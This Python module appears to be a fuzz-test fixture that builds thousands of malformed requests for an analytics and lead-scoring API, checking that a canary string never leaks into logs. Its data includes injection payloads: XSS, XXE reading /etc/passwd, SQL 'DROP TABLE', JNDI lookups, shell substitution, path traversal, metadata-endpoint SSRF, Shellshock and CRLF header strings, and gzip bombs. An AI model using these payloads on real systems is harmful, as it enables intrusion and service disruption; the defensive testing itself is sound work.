"""
Thousands of hostile requests, made by code: texts, numbers, times, bytes and headers that break programs, in every place
of every route that takes a body.

Each says which key it bears and, unless anybody may come of it, whom alone it may be about. `CANARY` stands in every
text that a person could have sent, so that a log which holds it has said too much.
"""

import gzip
import json
import urllib.parse
import zlib
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass, field
from typing import Any

from tests.hostile_bodies import BODIES

CANARY = "Kanarie7"
LEAD = "/v1/leads/ugiizjmvldgsd5ye"
KB = 1024


@dataclass(frozen=True)
class Post:
    """One request. `statuses` are those it may be answered with; `about` is the user id it may be about, None: any."""

    name: str
    path: str
    body: bytes
    key: str = "server"
    headers: Mapping[str, str] = field(default_factory=dict)
    about: str | None = None
    statuses: tuple[int, ...] = (200, 303, 400, 413)


def bell(number: int) -> str:
    return chr(number)


TEXTS: Mapping[str, str] = {
    "nothing": "", "space": " \t ", "NUL": f"{CANARY}\x00", "NUL first": f"\x00{CANARY}", "controls": f"{CANARY}\x01\x08\x1b[31m\x7f\x85",
    "line ends": f"{CANARY}\r\nBcc: victim@example.com\r\n\r\nhello", "line feed": f"{CANARY}\nSet-Cookie: a=b", "line signs": f"{CANARY}\u2028\u2029\x0b\x0c",
    "high half": f"{CANARY}\ud83d", "low half": f"\udc00{CANARY}", "halves the wrong way": f"{CANARY}\udc00\ud83d", "not signs": f"{CANARY}\ufffe\uffff",
    "byte order": f"\ufeff{CANARY}\ufeff", "replacement": f"{CANARY}\ufffd", "last sign": f"{CANARY}\U0010ffff", "private": f"{CANARY}\ue000\U000f0000",
    "right to left": f"\u202e{CANARY}\u202c gpj.exe", "isolates": f"\u2066{CANARY}\u2069\u061c", "Arabic": f"{CANARY} \u0627\u0644\u0639\u0631\u0628\u064a\u0629 \ufdfa",
    "zero width": f"Kana\u200b\u200c\u200d\u2060{CANARY}", "soft hyphen": f"{CANARY}\u00ad\u034f\u180e", "combining": CANARY + "\u0301" * 300, "zalgo": "".join(sign + "\u0316\u0317\u0360" * 9 for sign in CANARY),
    "variation": f"{CANARY}\ufe0f\U000e0100", "tags": f"{CANARY}\U000e0041\U000e007f", "Hangul filler": f"{CANARY}\u3164\u115f", "family": f"{CANARY} \U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
    "flags": f"{CANARY} \U0001f1f8\U0001f1ea\U0001f3f4\U000e0067", "emoji": "\U0001f680" * 200 + CANARY, "wide": f"\uff21\uff0d\uff1c{CANARY}\uff1e", "Turkish": f"{CANARY} \u0130\u0131", "sharp s": f"{CANARY} \u1e9e\ufb03",
    "composed": f"{CANARY} \u00c5\u212b\u0041\u030a", "Telugu": f"{CANARY} \u0c1c\u0c4d\u0c1e\u200c\u0c3e", "Cyrillic look-alike": f"{CANARY} \u0440\u0430\u0443\u0440\u0430l",
    "script": f"<script>{CANARY}</script>", "image": f"<img src=x onerror=alert('{CANARY}')>", "attribute": f'" onmouseover="{CANARY}', "svg": f"<svg/onload={CANARY}>", "scheme": f"javascript:alert('{CANARY}')",
    "data": f"data:text/html,{CANARY}", "comment": f"--><!--{CANARY}", "cdata": f"]]>{CANARY}<![CDATA[", "entity": f'<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>{CANARY}&y;',
    "double braces": f"{{{{ 7*7 }}}}{CANARY}", "statement": f"{{% include '/etc/passwd' %}}{CANARY}", "dollar": f"${{7*7}}{CANARY}", "hash": f"#{{7*7}}{CANARY}", "erb": f"<%= 7*7 %>{CANARY}", "format": f"{{0.__class__}}%s%n%x{CANARY}",
    "percent": "%" * 50 + CANARY, "percent NUL": f"%00{CANARY}", "percent twice": f"%2525%2e%2e{CANARY}", "percent cut": f"{CANARY}%", "percent of nothing": f"%zz%u0041{CANARY}", "plus": f"+{CANARY}+",
    "quote": f"' OR '1'='1 {CANARY}", "drop": f"'; DROP TABLE leads;-- {CANARY}", "mongo": f'{{"$gt":""}}{CANARY}', "dynamo": f"attribute_exists(PK) {CANARY} :v #n", "key": f"LEAD#{CANARY}", "keys": f"EVENTS#{CANARY}#LEAD", "hashes": "#" * 40 + CANARY,
    "jndi": f"${{jndi:ldap://x/{CANARY}}}", "shell": f"`id`;$(id)|{CANARY}", "path": f"../../../../etc/passwd{CANARY}", "path of Windows": f"..\\..\\{CANARY}", "file": f"file:///{CANARY}", "inside": f"http://169.254.169.254/{CANARY}",
    "brackets": f"http://[::1{CANARY}", "port": f"http://x:99999999/{CANARY}", "sheet": f"=cmd|'/c calc'!A1{CANARY}", "slack": f"<!channel> <@U1> {CANARY}", "mail": f"{CANARY}@example.com,victim@example.com", "mail name": f'"{CANARY}" <victim@example.com>',
    "mail line": f"{CANARY}@example.com\r\nBcc:x@example.com", "mail of brackets": f"{CANARY}@[127.0.0.1]", "mail of quotes": f'"{CANARY} x"@example.com', "mail of many": "@".join([CANARY] * 9), "puny": f"{CANARY}@xn--80ak6aa92e.com",
    "proto": "__proto__", "constructor": "constructor", "prototype": "prototype", "class": "__class__", "null": "null", "undefined": "undefined", "NaN": "NaN", "true": "true", "zero": "0", "object": "[object Object]",
    "number": "1e400", "long number": "9" * 400, "minus zero": "-0", "hex": "0x7fffffff", "reserved": "Score Adjusted", "proven": "Lead Won", "256": (CANARY * 40)[:256], "257": (CANARY * 40)[:257], "1,000": CANARY * 125, "20,000": CANARY * 2_500,
}  # fmt: skip

VALUES: Mapping[str, Any] = {
    "null": None, "true": True, "false": False, "zero": 0, "minus zero": -0.0, "minus": -1, "tiny": 5e-324, "1e125": 1e125, "1e124": 1e124, "1e308": 1.7976931348623157e308,
    "2**31": 2**31, "2**53": 2**53 + 1, "2**63": 2**63, "2**64": 2**64, "37 nines": 10**37, "38 digits": 10**38 - 1, "39 digits": 10**38, "600 digits": 10**600, "minus 39 digits": -(10**39),
    "40 decimals": 0.1234567890123456789012345678901234567890, "list": [], "object": {}, "list of null": [None], "list in list": [[[[[]]]]], "texts": [CANARY] * 50, "mixed": [1, "1", 1.0, True, None, {}],
    "proto": {"__proto__": {"admin": CANARY}}, "constructor": {"constructor": {"prototype": {"x": CANARY}}}, "empty name": {"": CANARY}, "dots": {"a.b.c": CANARY, "a": {"b": 1}}, "dollars": {"$set": {"x": CANARY}, "$where": "1"},
    "name of NUL": {"a\x00": 1, "a": CANARY}, "name of half": {"\ud800": CANARY}, "name of 256": {"n" * 256: 1}, "name of 257": {"n" * 257: 1}, "many names": {f"n{number}": number for number in range(1_000)}, "PK": {"PK": "LEAD#x", "SK": "LEAD", "version": 9},
    "19 deep": {"a": {}}, "consent": {"consent": True, "email": f"{CANARY}@example.com"}, "type": {"S": CANARY, "N": "1"}, "verdict": {"verdict": "human", "history": True, "lead_id": "ugiizjmvldgsd5ye"},
}  # fmt: skip

RAW: Mapping[str, str] = {
    "NaN": "NaN", "Infinity": "Infinity", "-Infinity": "-Infinity", "1e400": "1e400", "-1e400": "-1e400", "1e-400": "1e-400", "1E+99999": "1E+99999", "1e999999999": "1e999999999", "leading zero": "007", "plus": "+1", "hex": "0x10", "dot": ".5",
    "half number": "1.", "single quotes": "'a'", "bare word": "undefined", "comment": "/* a */ 1", "trailing comma": "[1,]", "bad escape": '"\\x41"', "cut escape": '"\\u12"', "raw line end": '"a\nb"', "raw NUL": '"a\x00b"', "raw tab": '"a\tb"',
    "halves": '"\\ud83d\\ude80\\ud83d"', "641 digits": "9" * 641, "5,000 digits": "9" * 5_000, "long fraction": "0." + "1" * 5_000, "same name": '{"a":1,"a":2,"a":{"a":3,"a":4}}', "10 deep": '{"a":' * 10 + "1" + "}" * 10, "18 deep": '{"a":' * 18 + "1" + "}" * 18, "25 deep": '{"a":' * 25 + "1" + "}" * 25,
    "300 deep": "[" * 300 + "]" * 300, "5,000 deep": "[" * 5_000 + "]" * 5_000, "5,000 objects deep": '{"a":' * 5_000 + "1" + "}" * 5_000, "not closed": "[[[[", "closed twice": "1]]", "31 KB": json.dumps("x" * 31_000), "33 KB": json.dumps("x" * 33_000),
}  # fmt: skip
"""JSON, or almost, as it stands for a value."""

TIMES: Sequence[Any] = (
    "0001-01-01T00:00:00Z", "0000-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "9999-12-31T23:59:59-23:59", "0001-01-01T00:00:00+23:59", "10000-01-01T00:00:00Z", "-0001-01-01T00:00:00Z", "1969-12-31T23:59:59Z", "1989-12-31T23:59:59Z", "1990-01-01T00:00:00Z",
    "2038-01-19T03:14:08Z", "2100-02-29T00:00:00Z", "2026-02-30T00:00:00Z", "2026-13-01T00:00:00Z", "2026-11-22T24:00:00Z", "2026-11-22T25:00:00Z", "2026-11-22T10:00:60Z", "2026-11-22T10:00:00", "2026-11-22", "2026-11-22T10:00:00.123456789123456789Z", "2026-11-22T10:00:00+99:99", "2026-11-22T10:00:00+00:00:01",
    "2026-W47-7T10:00:00Z", "20261122T100000Z", "2026-326T10:00:00Z", "2026-11-22 10:00:00Z", "2026-11-22t10:00:00z", "Sun, 22 Nov 2026 10:00:00 GMT", "1795341600", 1795341600, 1795341600000, -1, 0, 1e400 if False else 1e30, True, [], {}, "now", "\u0662\u0660\u0662\u0666-11-22T10:00:00Z", "2026-11-22T10:00:00\u2212" + "01:00", " 2026-11-22T10:00:00Z ", "2026-11-22T10:00:00Z" * 100, "T", "Z", "0" * 10_000,
)  # fmt: skip

PEOPLE = 40


def person(number: int) -> str:
    return f"hostile-{number % PEOPLE}"


def dumped(said: Any) -> bytes:
    return json.dumps(said).encode()


def track(number: int, **more: Any) -> dict[str, Any]:
    return {"type": "track", "userId": person(number), "messageId": f"h{number}", "event": "Looked", **more}


def placed(place: str, value: Any, number: int) -> tuple[str, str, Any]:
    """Return route, key and body with the value in that place."""
    who = {"userId": person(number), "messageId": f"h{number}"}
    match place:
        case "event":
            return "/v1/track", "public", {**who, "event": value}
        case "messageId":
            return "/v1/track", "server", {**who, "event": "Looked", "messageId": value}
        case "property" | "properties":
            return (
                "/v1/track",
                "public",
                {**who, "event": "Looked", "properties": {"plan": value} if place == "property" else value},
            )
        case "traits":
            return "/v1/identify", "server", {**who, "traits": value}
        case "email" | "firstName" | "company" | "title" | "consent" | "employees" | "country":
            return "/v1/identify", "public" if number % 2 else "server", {**who, "traits": {place: value}}
        case "url" | "path" | "referrer":
            return "/v1/page", "public", {**who, "properties": {place: value}}
        case "name" | "category":
            return "/v1/screen", "public", {**who, place: value}
        case "context":
            return "/v1/page", "public", {**who, "context": value}
        case "userAgent" | "timezone" | "locale" | "page" | "campaign" | "traits of context":
            return "/v1/page", "public", {**who, "context": {place.partition(" ")[0]: value}}
        case "source":
            return (
                "/v1/t",
                "public",
                {**who, "event": "Looked", "context": {"campaign": {"source": value, "medium": value}}},
            )
        case "timestamp" | "originalTimestamp":
            return "/v1/track", "server", {**who, "event": "Looked", place: value}
        case "sentAt":
            return "/v1/batch", "server", {"sentAt": value, "batch": [track(number, timestamp="2026-11-20T10:00:00Z")]}
        case "type" | "integrations" | "writeKey":
            return "/v1/batch", "server", {"batch": [track(number, **{place: value}), track(number + 100_000)]}
        case "batch":
            return "/v1/batch", "server", {"batch": value}
        case "history":
            return "/v1/import", "server", {"history": value, "batch": [track(number)]}
        case "userId" | "anonymousId":
            return "/v1/track", "server", {place: value, "event": "Looked", "messageId": f"h{number}"}
        case "groupId":
            return "/v1/group", "server", {**who, "groupId": value, "traits": {"name": value}}
        case "previousId":
            return "/v1/alias", "server", {**who, "previousId": value}
        case "points" | "until" | "reason" | "by":
            said = {"points": 5, "reason": "hostile", "by": "tester", place: value}
            return f"{LEAD}/adjustments", "admin", said
        case "verdict" | "from":
            judged = {
                "verdict": "machine",
                "from": "2026-11-01T00:00:00Z",
                "until": "2026-11-02T00:00:00Z",
                "reason": "r",
                "by": "b",
            }
            return f"{LEAD}/verdicts", "admin", {**judged, place: value}
        case _:
            field_name = place.removeprefix("outcome ")
            return "/v1/outcomes", "outcomes", {"type": "lost", "userId": person(number), field_name: value}


WHO = (
    "userId",
    "anonymousId",
    "previousId",
    "email",
    "traits of context",
    "context",
    "traits",
    "batch",
    "outcome userId",
    "outcome email",
    "outcome leadId",
)
"""Places that say whom it is about."""

TEXT_PLACES = (
    "event", "messageId", "property", "email", "firstName", "company", "title", "url", "path", "name", "userAgent", "timezone", "source", "userId", "anonymousId", "groupId", "previousId", "outcome id", "outcome reason", "outcome by", "reason", "by",
)  # fmt: skip
VALUE_PLACES = (
    "event", "messageId", "property", "properties", "traits", "email", "consent", "employees", "country", "url", "path", "name", "context", "page", "campaign", "traits of context", "type", "integrations", "batch", "history", "userId", "anonymousId", "groupId",
    "previousId", "points", "reason", "verdict", "outcome type", "outcome value", "outcome currency", "outcome leadId", "outcome email", "outcome userId",
)  # fmt: skip
RAW_PLACES = ("property", "traits", "userId", "messageId", "timestamp", "context", "batch", "points", "outcome value")
TIME_PLACES = ("timestamp", "originalTimestamp", "sentAt", "until", "from", "outcome occurredAt")


def texts() -> Iterator[Post]:
    for place in TEXT_PLACES:
        for name, value in TEXTS.items():
            yield _post(place, name, value)
    for place in ("property", "userId", "email"):
        for name in ("high half", "low half", "halves the wrong way"):
            path, key, said = placed(place, TEXTS[name], 0)
            raw = json.dumps(said, ensure_ascii=False).encode(errors="surrogatepass")
            yield Post(f"{place}: {name} as bytes", path, raw, key, statuses=(400,))


def names() -> Iterator[Post]:
    """Texts as names of properties and traits."""
    for number, (name, value) in enumerate(TEXTS.items()):
        for place in ("properties", "traits"):
            path, key, said = placed(place, {value: CANARY, "plan": {value: 1}}, 50_000 + number)
            yield Post(f"{place}: name {name}", path, dumped(said), key, about=person(50_000 + number))


_numbers = iter(range(10**9))


def _post(place: str, name: str, value: Any) -> Post:
    number = next(_numbers)
    path, key, said = placed(place, value, number)
    about = None if place in WHO or "leads" in path else person(number)
    return Post(f"{place}: {name}", path, dumped(said), key, about=about)


def values() -> Iterator[Post]:
    for place in VALUE_PLACES:
        for name, value in VALUES.items():
            yield _post(place, name, value)


def times() -> Iterator[Post]:
    for place in TIME_PLACES:
        for value in TIMES:
            yield _post(place, repr(value)[:40], value)


def raw_values() -> Iterator[Post]:
    for place in RAW_PLACES:
        for name, written in RAW.items():
            post = _post(place, name, "@@")
            yield Post(
                f"{place}: raw {name}",
                post.path,
                post.body.replace(b'"@@"', written.encode()),
                post.key,
                about=post.about,
            )


def forms() -> Iterator[Post]:
    kind = {"content-type": "application/x-www-form-urlencoded"}
    for name, value in TEXTS.items():
        raw = value.encode(errors="surrogatepass")
        for field_name in (
            "email",
            "first_name",
            "user_id",
            "message",
            "next",
            "consent",
            "started_at",
            "page_url",
            "_charset_",
            "timestamp",
            "messageid",
        ):
            pairs = {"user_id": person(next(_numbers)), field_name: raw}
            about = None if field_name in ("email", "user_id") else str(pairs["user_id"])
            yield Post(
                f"form {field_name}: {name}",
                "/forms/demo",
                urllib.parse.urlencode(pairs).encode(),
                "public",
                kind,
                about,
            )
        yield Post(
            f"form name: {name}",
            "/forms/demo",
            b"user_id=hostile-1&" + urllib.parse.quote(raw).encode() + b"=x",
            "public",
            kind,
            "hostile-1",
        )
        yield Post(
            f"form bytes: {name}", "/forms/demo", b"user_id=hostile-1&message=" + raw, "public", kind, "hostile-1"
        )
        yield Post(
            f"form of JSON: {name}",
            "/forms/demo",
            dumped({"user_id": "hostile-2", "message": value, value or "x": "y"}),
            "public",
            {"content-type": "application/json"},
            "hostile-2",
        )
        yield multipart(
            f"form part: {name}", [(b'form-data; name="user_id"', b"hostile-3"), (b'form-data; name="message"', raw)]
        )
        yield multipart(
            f"form part name: {name}",
            [(b'form-data; name="user_id"', b"hostile-3"), (b'form-data; name="' + raw + b'"', b"x")],
        )
    for name, body in {
        "201 fields": b"&".join(b"f%d=1" % number for number in range(201)), "200 fields": b"user_id=hostile-4&" + b"&".join(b"f%d=1" % number for number in range(199)), "15,000 ampersands": b"&" * 15_000, "15,000 equals": b"=" * 15_000,
        "15,000 percents": b"a=" + b"%" * 15_000, "10,000 of %00": b"a=" + b"%00" * 10_000, "semicolons": b"user_id=hostile-4;email=x", "no equals": b"user_id", "only equals": b"=", "32 KB": b"user_id=hostile-4&a=" + b"x" * (32 * KB - 20), "32 KB and one": b"user_id=hostile-4&a=" + b"x" * (32 * KB - 18),
        "one field again": b"user_id=hostile-4&" + b"&".join([b"topic[]=x"] * 150), "UTF-16": "user_id=hostile-4".encode("utf-16"), "charset UTF-16": b"_charset_=utf-16&user_id=hostile-4", "charset rot13": b"_charset_=rot13&user_id=hostile-4&message=%C3", "charset zip": b"_charset_=zip&user_id=hostile-4&message=%C3",
        "charset punycode": b"_charset_=punycode&user_id=hostile-4", "charset idna": b"_charset_=idna&user_id=hostile-4&message=%C3%BC", "charset of NUL": b"_charset_=utf-8%00&user_id=hostile-4", "charset unicode_escape": b"_charset_=unicode_escape&user_id=hostile-4&message=%5Cx41", "latin": b"user_id=hostile-4&message=Z%FC", "EUC": b"_charset_=euc-kr&user_id=hostile-4&message=%B0",
    }.items():  # fmt: skip
        yield Post(f"form: {name}", "/forms/demo", body, "public", kind)
    for boundary in (b"x", b"-", b"--", b"x" * 70, b"x" * 71, b"\xff", b" ", b"a b"):
        yield Post(
            f"form boundary: {boundary[:8]!r}", "/forms/demo", b"--" + boundary + b"\r\n" + b"a\r\n" * 400, "public",
            {"content-type": "multipart/form-data; boundary=" + boundary.decode("latin-1")},
        )  # fmt: skip
    part = b'form-data; name="user_id"'
    for name, parts in {
        "201 parts": [(b'form-data; name="f%d"' % number, b"") for number in range(201)], "nested": [(b"form-data; name=a\r\nContent-Type: multipart/mixed; boundary=y", b"--y\r\n--y--")] * 50, "a head without end": [(b"form-data; " + b"x" * 9_000, b"")], "heads": [(part + b"\r\nX: y" * 2_000, b"hostile-3")],
        "files": [(b'form-data; name="a"; filename="../../x"', b"\x00" * 9_000), (part, b"hostile-3")], "base64": [(part + b"\r\nContent-Transfer-Encoding: base64", b"aG9zdGlsZQ==")], "quotes": [(b'form-data; name="user_id', b"x"), (b'form-data; name=""', b"y"), (b'form-data; name="a\\"b"', b"z")],
    }.items():  # fmt: skip
        yield multipart(f"form: {name}", parts, about=None)


def multipart(name: str, parts: Sequence[tuple[bytes, bytes]], about: str | None = "hostile-3") -> Post:
    body = b"".join(b"--BB\r\nContent-Disposition: " + head + b"\r\n\r\n" + value + b"\r\n" for head, value in parts)
    return Post(
        name, "/forms/demo", body + b"--BB--\r\n", "public", {"content-type": "multipart/form-data; boundary=BB"}, about
    )


ROUTES = (
    "/v1/track",
    "/v1/batch",
    "/forms/demo",
    "/v1/outcomes",
    f"{LEAD}/adjustments",
    f"{LEAD}/verdicts",
    "/api/s/track",
)
KEYS = {
    "/v1/outcomes": "outcomes",
    f"{LEAD}/adjustments": "admin",
    f"{LEAD}/verdicts": "admin",
    "/forms/demo": "public",
}


def bodies() -> Iterator[Post]:
    """Bodies of which nothing, or nothing but what they say, may come, on every route."""
    good = dumped(track(1, messageId="bodies", properties={"who": CANARY}))
    bomb = gzip.compress(b"0" * 20_000_000, mtime=0)
    every: dict[str, bytes] = {
        **BODIES, "nothing": b"", "space": b" \r\n\t", "null": b"null", "true": b"true", "number": b"1", "text": b'"x"', "list": b"[]", "list of objects": b"[{}]", "object": b"{}", "two objects": b"{}{}", "object and rest": good + b"x", "lines": good + b"\n" + good,
        "UTF-8 mark": b"\xef\xbb\xbf" + good, "two marks": b"\xef\xbb\xbf" * 2 + good, "UTF-16 little": good.decode().encode("utf-16-le"), "UTF-16 big": good.decode().encode("utf-16-be"), "UTF-16 marked": good.decode().encode("utf-16"), "UTF-32": good.decode().encode("utf-32"),
        "latin-1": '{"userId":"h\xfc"}'.encode("latin-1"), "Shift JIS": '{"userId":"日本"}'.encode("shift_jis"), "overlong": b'{"userId":"\xc0\xaf"}', "half of UTF-8": b'{"userId":"\xe2\x82"}', "EBCDIC": good.decode().encode("cp500"), "UTF-7": b"+AHsAfQ-",
        "gzip": gzip.compress(good, mtime=0), "gzip twice": gzip.compress(gzip.compress(good, mtime=0), mtime=0), "gzip of a bomb": gzip.compress(bomb, mtime=0), "gzip bomb": bomb, "zlib": zlib.compress(good), "zlib bomb": zlib.compress(b"{" * 20_000_000), "gzip head": b"\x1f\x8b", "gzip cut": gzip.compress(good, mtime=0)[:-9],
        "gzip and rest": gzip.compress(good, mtime=0) + b"rest", "two gzips": gzip.compress(good, mtime=0) * 2, "gzip of a wrong sum": gzip.compress(good, mtime=0)[:-8] + b"\x00" * 8, "zlib cut": zlib.compress(good)[:-3], "zstd": b"\x28\xb5\x2f\xfd" + b"\x00" * 50, "zip": b"PK\x03\x04" + b"\x00" * 50, "brotli": b"\x8b\x02\x80\x7b\x7d\x03",
        "html": b"<!doctype html><p>", "xml": b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "b">]><x>&a;</x>', "form": b"userId=u&event=x", "multipart": b"--x\r\n\r\n--x--", "JSON5": b"{userId:'u',}", "JSON with comments": b"/**/{}//", "binary": bytes(range(256)), "NULs": b"\x00" * 500, "NUL and object": b"\x00" + good, "quotes": b'"' * 999,
        "almost 128 KB of space": good + b" " * (127 * KB), "over 128 KB of space": good + b" " * (129 * KB), "over 500 KB": good + b" " * (501 * KB), "32 KB": _sized(32 * KB), "32 KB and one": _sized(32 * KB + 1), "deep list": b"[" * 400 + b"]" * 400, "deep object": b'{"a":' * 900 + b"1" + b"}" * 900, "deep batch": b'{"batch":' + b"[" * 9_000 + b"]" * 9_000 + b"}",
        "2,500 events": dumped({"batch": [track(3, messageId=f"b{number}") for number in range(2_500)]}), "2,501 events": dumped({"batch": [track(3, messageId=f"b{number}") for number in range(2_501)]}), "2,500 of nothing": dumped({"batch": [None] * 2_500}), "2,500 of one id": dumped({"batch": [track(3, messageId="same")] * 2_500}),
        "large context": dumped({"context": {"page": {"url": "x" * 31_000}}, "batch": [track(5, messageId=f"c{number}") for number in range(60)]}), "batch in batch": dumped({"batch": [{"batch": [track(5)], "type": "batch"}]}), "keys of others": dumped({"writeKey": "server_x_" + "a" * 32, "batch": [track(6)]}), "outcomes": dumped({"outcomes": [{"type": "lost"}] * 100}), "101 outcomes": dumped({"outcomes": [{"type": "lost"}] * 101}),
    }  # fmt: skip
    for path in ROUTES:
        for name, body in every.items():
            if path in ("/v1/track", "/v1/batch") or len(body) < 40 * KB:
                yield Post(f"{path}: {name}", path, body, KEYS.get(path, "server"))


def _sized(size: int) -> bytes:
    """Return a call of exactly so many bytes."""
    short = json.dumps(track(2, messageId=f"s{size}", properties={"x": ""}), separators=(",", ":"))
    return short.replace('"x":""', f'"x":"{"x" * (size - len(short))}"').encode()


def headers() -> Iterator[Post]:
    """Headers that lie about the body, or are themselves hostile, with a beacon's habits among them."""
    good = dumped(track(7, messageId="headers"))
    lies: list[dict[str, str]] = [
        {"content-type": kind}
        for kind in ("", "text/plain", "text/plain;charset=UTF-16", "application/json; charset=latin-1", "application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary=", "application/xml", "image/png", "application/json" * 99, "\x00", "text/html; " + "x=" * 2_000)
    ] + [
        {"content-encoding": coding} for coding in ("gzip", "deflate", "br", "zstd", "identity", "gzip, gzip", "x" * 2_000, "GZIP", "compress")
    ] + [
        {name: CANARY * 30}
        for name in ("user-agent", "referer", "origin", "x-forwarded-for", "x-retry-count", "accept", "cookie", "host", "anonymousid", "traceparent", "webhook-id", "if-none-match", "accept-language")
    ] + [
        {"user-agent": value} for value in ("", "\x00", "a\r\nb", "\ud800", "\U0001f680" * 900, "() { :;}; echo", "${jndi:ldap://x}")
    ]  # fmt: skip
    for path, key, about in (
        ("/v1/track", "server", person(7)),
        ("/forms/demo", "public", None),
        ("/beacon/v1/batch", "server", None),
        ("/v1/outcomes", "outcomes", None),
    ):
        body = {"/forms/demo": b"user_id=hostile-7", "/beacon/v1/batch": dumped({"batch": [track(8)]})}.get(path, good)
        for lie in lies:
            yield Post(f"{path} {next(iter(lie))}: {next(iter(lie.values()))[:30]!r}", path, body, key, lie, about)
    for name, said in {
        "basic of nothing": "Basic", "basic of dots": "Basic ....", "basic of half": "Basic YQ", "basic long": "Basic " + "QUFB" * 9_000, "bearer": "Bearer x", "bearer long": "Bearer " + "x" * 9_000, "negotiate": "Negotiate x", "NUL": "Basic AAAA", "not ASCII": "Basic \xfc", "line ends": "Basic a\r\nX: y", "spaces": " " * 3_000, "wrong mac": "Basic c2VydmVyX3hfYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWFhYWE6", "two": "Basic YTpi, Basic YTpi",
    }.items():  # fmt: skip
        for path in ROUTES:
            yield Post(f"{path} key: {name}", path, good, "none", {"authorization": said}, statuses=(400, 401, 413))
    for kind in ("public", "server", "outcomes", "admin", "sales"):
        for path in ROUTES:
            if kind != KEYS.get(path, kind if kind in ("public", "server") else "server"):
                yield Post(f"{path} with a key for {kind}", path, good, kind, statuses=(200, 303, 400, 401, 413))


def mixed() -> Iterator[Post]:
    """Ids of several kinds and people in one call, by a public key: they may not tie people together."""
    for number, (name, value) in enumerate(TEXTS.items()):
        said = {
            "userId": f"victim-{number % 5}",
            "anonymousId": value,
            "traits": {"email": f"victim-{number % 7}@example.com", "name": value},
        }
        yield Post(f"mixed identify: {name}", "/v1/identify", dumped({**said, "messageId": f"m{number}"}), "public")
        yield Post(
            f"mixed alias: {name}",
            "/v1/alias",
            dumped({"userId": f"victim-{number % 5}", "previousId": value, "messageId": f"a{number}"}),
            "public",
        )
        batch = [
            {**track(number), "userId": value},
            {**track(number), "anonymousId": value, "messageId": f"n{number}"},
            1,
            None,
            {},
            [],
        ]
        yield Post(f"mixed batch: {name}", "/v1/batch", dumped({"batch": batch}), "public")


def corpus() -> list[Post]:
    """Return every request, always the same."""
    global _numbers  # noqa: PLW0603 - the same people and ids each time it is made
    _numbers = iter(range(10**9))
    return [
        post for family in (texts, names, values, times, raw_values, forms, bodies, headers, mixed) for post in family()
    ]
